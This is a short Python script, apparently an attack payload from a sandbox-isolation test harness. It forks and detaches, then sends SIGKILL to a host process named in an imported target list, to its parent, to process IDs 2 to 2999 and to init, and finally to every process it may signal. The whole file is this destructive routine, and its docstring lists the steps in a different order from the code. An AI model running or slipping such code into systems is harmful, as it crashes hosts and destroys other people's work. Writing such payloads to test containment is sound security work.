"""Sends SIGKILL to every process that it may, then to each id by itself, then to a process of the host by its id."""

import contextlib
import os
import signal

from attack import TARGETS

if os.fork() == 0:
    os.setsid()
    for number in [TARGETS["process"], os.getppid(), *range(2, 3000), 1]:
        if number != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(number, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    os._exit(0)
os.wait()
